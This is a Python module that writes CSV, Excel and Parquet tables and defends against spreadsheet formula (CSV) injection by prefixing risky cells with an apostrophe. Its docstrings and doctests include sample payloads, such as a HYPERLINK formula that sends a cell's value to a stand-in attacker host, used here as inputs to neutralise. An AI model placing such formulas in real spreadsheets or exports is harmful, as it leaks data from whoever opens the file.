"""Tables written for people to open: CSV and Excel files that a spreadsheet cannot run.

A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is read by
Excel, LibreOffice and Google Sheets as a formula, so a respondent who types
``=HYPERLINK("http://evil.example/?x="&A1,"click")`` as their organization's name would
otherwise get a live link (or worse) into the spreadsheet of whoever opens the results.
Following OWASP's advice on CSV injection
(https://owasp.org/www-community/attacks/CSV_Injection), every text cell and header of that
kind is written with a leading ``'``, which spreadsheets show as text. Numbers stay numbers:
a number (``-3``, ``-0.25``), and a text cell that is nothing but a number (``"-3"``), cannot
run anything and is written as it is.

Every table the library writes goes through :func:`write_table` (or :func:`csv_text` for
standard output): the valid rows of ``gto validate --out-valid``, the scores of
``gto score --out``, the issues of ``gto validate --format csv`` and the tables of a report.
``raw_cells=True`` (``--raw-cells`` on the command line) writes every cell as it is, for a
program that reads the file rather than a person who opens it.
"""

from __future__ import annotations

import datetime as dt
import io
import math
import os
import re
from collections.abc import Callable, Iterable, Mapping
from pathlib import Path
from typing import Any, Final, Literal

import numpy as np
import pandas as pd

from getting_to_outcomes.errors import DataWriteError
from getting_to_outcomes.io._atomic import write_atomic

__all__ = [
    "FORMULA_START",
    "TABLE_FORMATS",
    "csv_text",
    "neutralise_formulas",
    "sheet_names",
    "write_table",
]

#: First characters that make a spreadsheet read a cell as a formula (OWASP).
FORMULA_START: Final = ("=", "+", "-", "@", "\t", "\r")
#: Formats :func:`write_table` writes, by file suffix.
TABLE_FORMATS: Final = {".csv": "csv", ".xlsx": "xlsx", ".parquet": "parquet"}

TableFormat = Literal["csv", "xlsx", "parquet"]

# A plain decimal number: a spreadsheet reads it as that number and nothing else.
_NUMBER: Final = re.compile(r"[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?")
# Excel's limits (https://support.microsoft.com/office/excel-specifications-and-limits).
_EXCEL_ROWS: Final = 1_048_576
_EXCEL_COLUMNS: Final = 16_384
_SHEET_NAME_CHARS: Final = 31


def _inert(value: str) -> str:
    if value.startswith(FORMULA_START) and not _NUMBER.fullmatch(value):
        return "'" + value
    return value


def _neutral_column(column: pd.Series) -> pd.Series:
    if not _is_text(column):
        return column
    values = column.astype(object).to_numpy(copy=True)
    is_text = np.fromiter((type(v) is str for v in values), dtype=bool, count=len(values))
    if not is_text.any():
        return column
    changed = False
    for at in np.flatnonzero(is_text):
        fixed = _inert(values[at])
        if fixed is not values[at]:
            values[at] = fixed
            changed = True
    if not changed:
        return column
    return pd.Series(values, index=column.index, name=column.name, dtype=object)


def neutralise_formulas(frame: pd.DataFrame) -> pd.DataFrame:
    """Text cells and headers that a spreadsheet would run as a formula, made inert with ``'``.

    Cells that start with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return are the ones
    OWASP lists for CSV (formula) injection. Numbers are left as numbers, and so is text
    that is only a number (``"-3"``): a spreadsheet reads it as that number.

    Examples
    --------
    >>> import pandas as pd
    >>> neutralise_formulas(pd.DataFrame({"org": ["=HYPERLINK(1)", "Parents United", "-3"],
    ...                                   "n": [-3, 4, 5]})).values.tolist()
    [["'=HYPERLINK(1)", -3], ['Parents United', 4], ['-3', 5]]
    """
    out = frame.copy()
    for position in range(out.shape[1]):
        column = out.iloc[:, position]
        fixed = _neutral_column(column)
        if fixed is not column:
            out.isetitem(position, fixed.to_numpy())
    out.columns = [_inert(c) if isinstance(c, str) else c for c in out.columns]
    return out


def csv_text(
    frame: pd.DataFrame, *, raw_cells: bool = False, date_format: str | None = None
) -> str:
    """A table as CSV text (for standard output), formulas neutralised unless ``raw_cells``.

    Examples
    --------
    >>> import pandas as pd
    >>> print(csv_text(pd.DataFrame({"column": ["+cmd", "age"], "row": [2, -1]})), end="")
    column,row
    '+cmd,2
    age,-1
    """
    buffer = io.StringIO()
    written = _as_written(frame, raw_cells)
    written.to_csv(buffer, index=False, date_format=date_format,
                   lineterminator=_line_end(written))
    return buffer.getvalue()


def sheet_names(names: Iterable[str]) -> list[str]:
    """Excel sheet names: no ``[]:*?/\\``, at most 31 characters, unique (case ignored).

    Examples
    --------
    >>> sheet_names(["by stop", "a/b", "by stop"])
    ['by stop', 'a_b', 'by stop_2']
    """
    used: list[str] = []
    for name in names:
        sheet = re.sub(r"[\[\]:*?/\\]", "_", str(name))[:_SHEET_NAME_CHARS] or "sheet"
        base, number = sheet, 1
        while sheet.casefold() in (u.casefold() for u in used):
            number += 1
            suffix = f"_{number}"
            sheet = base[: _SHEET_NAME_CHARS - len(suffix)] + suffix
        used.append(sheet)
    return used


def write_table(
    table: pd.DataFrame | Mapping[str, pd.DataFrame],
    path: str | os.PathLike[str],
    format: TableFormat | None = None,
    *,
    raw_cells: bool = False,
    encoding: str = "utf-8",
    date_format: str | None = None,
) -> Path:
    """Write a table as CSV, Excel or Parquet, replacing the file whole or not at all.

    Text cells and headers that a spreadsheet would run as a formula are written with a
    leading ``'`` (see :func:`neutralise_formulas`); numbers stay numbers. Excel cells hold
    values, never formulas: numbers as numbers, dates as dates, text as text. Parquet keeps
    every value as it is (no spreadsheet opens it).

    Parameters
    ----------
    table : DataFrame or mapping of str to DataFrame
        The table; for Excel, a mapping writes one sheet per entry (sheet names are made
        valid: at most 31 characters, no ``[]:*?/\\``).
    path : path-like
        The file to write; its parent folder is created when missing.
    format : {"csv", "xlsx", "parquet"}, optional
        Default: from the suffix of ``path`` (``.csv``, ``.xlsx``, ``.parquet``).
    raw_cells : bool
        Write text cells as they are, formulas included: for a program that reads the
        file, never for a person who opens it in a spreadsheet.
    encoding : str
        Text encoding of a CSV file; ``"utf-8-sig"`` adds the mark that makes Excel read
        UTF-8.
    date_format : str, optional
        How a CSV file writes dates (``strftime``); ``None`` writes pandas' default.

    Returns
    -------
    Path
        The file written.

    Raises
    ------
    DataWriteError
        The format is unknown, several tables were given for a CSV or Parquet file, or a
        table is larger than an Excel sheet can hold.

    Examples
    --------
    >>> import tempfile, csv, pandas as pd
    >>> folder = Path(tempfile.mkdtemp())
    >>> frame = pd.DataFrame({"org": ['=HYPERLINK("http://evil.example","click")'],
    ...                       "change": [-3]})
    >>> path = write_table(frame, folder / "scores.csv")
    >>> next(csv.reader(path.read_text().splitlines()[1:]))
    ['\\'=HYPERLINK("http://evil.example","click")', '-3']
    >>> path = write_table(frame, folder / "raw.csv", raw_cells=True)
    >>> path.read_text().splitlines()[1][:10]
    '"=HYPERLIN'
    """
    target = Path(path)
    kind = format or TABLE_FORMATS.get(target.suffix.casefold())
    if kind not in TABLE_FORMATS.values():
        msg = (f"cannot write {target.name!r} as a table: give a file ending in "
               f"{', '.join(TABLE_FORMATS)} (or format='csv', 'xlsx' or 'parquet')")
        raise DataWriteError(msg)
    sheets = dict(table) if isinstance(table, Mapping) else {"Sheet1": table}
    if kind != "xlsx" and len(sheets) != 1:
        msg = (f"{target.name}: a {kind} file holds one table; {len(sheets)} were given "
               "(write them to an .xlsx file, one sheet each, or to one file each)")
        raise DataWriteError(msg)
    writer: Callable[[Path], object]
    if kind == "xlsx":
        _check_excel_size(sheets, target)

        def writer(temporary: Path) -> None:
            _write_xlsx(sheets, temporary, raw_cells=raw_cells)
    elif kind == "parquet":
        (frame,) = sheets.values()

        def writer(temporary: Path) -> None:
            frame.to_parquet(temporary, index=False)
    else:
        (frame,) = sheets.values()

        def writer(temporary: Path) -> None:
            written = _as_written(frame, raw_cells)
            written.to_csv(temporary, index=False, encoding=encoding, date_format=date_format,
                           lineterminator=_line_end(written))
    write_atomic(target, writer)
    return target


def _as_written(frame: pd.DataFrame, raw_cells: bool) -> pd.DataFrame:
    return frame if raw_cells else neutralise_formulas(frame)


def _line_end(frame: pd.DataFrame) -> str:
    """CRLF when a cell holds a carriage return, else LF.

    The csv module quotes a cell that holds a character of the line end; a lone carriage
    return in a cell would otherwise be written bare, and readers would end the row there.
    """
    if any(isinstance(c, str) and "\r" in c for c in frame.columns):
        return "\r\n"
    for position in range(frame.shape[1]):
        column = frame.iloc[:, position]
        if not _is_text(column):
            continue
        if any(isinstance(v, str) and "\r" in v for v in column.astype(object).to_numpy()):
            return "\r\n"
    return "\n"


def _is_text(column: pd.Series) -> bool:
    return bool(column.dtype == object or pd.api.types.is_string_dtype(column)
                or isinstance(column.dtype, pd.CategoricalDtype))


def _check_excel_size(sheets: Mapping[str, pd.DataFrame], target: Path) -> None:
    for name, frame in sheets.items():
        rows, columns = frame.shape
        if rows + 1 > _EXCEL_ROWS or columns > _EXCEL_COLUMNS:
            msg = (f"{target.name}: the table {name!r} has {rows:,} rows and {columns:,} "
                   f"columns; an Excel sheet holds at most {_EXCEL_ROWS - 1:,} rows below its "
                   f"header and {_EXCEL_COLUMNS:,} columns. Write it as .csv or .parquet")
            raise DataWriteError(msg)


def _excel_values(column: pd.Series) -> list[Any]:
    """The cells of one column as Excel stores them: None for blank, else a plain value."""
    dtype = column.dtype
    if pd.api.types.is_bool_dtype(dtype):
        return [_excel_value(v) for v in column.astype(object).to_numpy()]
    if pd.api.types.is_datetime64_any_dtype(dtype):
        if isinstance(dtype, pd.DatetimeTZDtype):
            column = column.dt.tz_localize(None)
        return [None if pd.isna(v) else v.to_pydatetime() for v in column]
    if pd.api.types.is_numeric_dtype(dtype):
        numbers = column.astype("float64").to_numpy()
        whole = pd.api.types.is_integer_dtype(dtype)
        return [_number(float(v), whole) for v in numbers]
    return [_excel_value(v) for v in column.astype(object).to_numpy()]


def _number(value: float, whole: bool = False) -> Any:
    if math.isnan(value):
        return None
    if math.isinf(value):
        # Excel has no infinity; the text says what the value is.
        return "inf" if value > 0 else "-inf"
    return int(value) if whole else value


def _excel_value(value: Any) -> Any:
    if value is None or value is pd.NA or value is pd.NaT:
        return None
    if isinstance(value, bool | np.bool_):
        return bool(value)
    if isinstance(value, int | np.integer):
        return int(value)
    if isinstance(value, float | np.floating):
        return _number(float(value))
    if isinstance(value, pd.Timestamp):
        return value.tz_localize(None).to_pydatetime() if value.tzinfo else value.to_pydatetime()
    if isinstance(value, dt.datetime):
        return value.replace(tzinfo=None)
    if isinstance(value, dt.date):
        return dt.datetime.combine(value, dt.time())
    return str(value)


def _write_xlsx(sheets: Mapping[str, pd.DataFrame], path: Path, *, raw_cells: bool) -> None:
    import xlsxwriter

    # Rows are written in order, so the file is built row by row on disk, not in memory.
    workbook = xlsxwriter.Workbook(str(path), {
        "constant_memory": True, "strings_to_formulas": False, "strings_to_urls": False,
        "strings_to_numbers": False})
    try:
        bold = workbook.add_format({"bold": True})
        day = workbook.add_format({"num_format": "yyyy-mm-dd"})
        moment = workbook.add_format({"num_format": "yyyy-mm-dd hh:mm:ss"})
        for sheet_name, frame in zip(sheet_names(sheets), sheets.values(), strict=True):
            sheet = workbook.add_worksheet(sheet_name)
            safe = _as_written(frame, raw_cells)
            sheet.freeze_panes(1, 0)
            for column, name in enumerate(safe.columns):
                sheet.write_string(0, column, str(name), bold)
            columns = [_excel_values(safe.iloc[:, k]) for k in range(safe.shape[1])]
            formats = [day if all(v.time() == dt.time() for v in values
                                  if isinstance(v, dt.datetime)) else moment
                       for values in columns]
            for number, row in enumerate(zip(*columns, strict=True), start=1):
                for column, cell in enumerate(row):
                    if cell is None:
                        continue
                    if isinstance(cell, str):
                        if cell:
                            sheet.write_string(number, column, cell)
                    elif isinstance(cell, bool):
                        sheet.write_boolean(number, column, cell)
                    elif isinstance(cell, dt.datetime):
                        sheet.write_datetime(number, column, cell, formats[column])
                    else:
                        sheet.write_number(number, column, cell)
    finally:
        workbook.close()
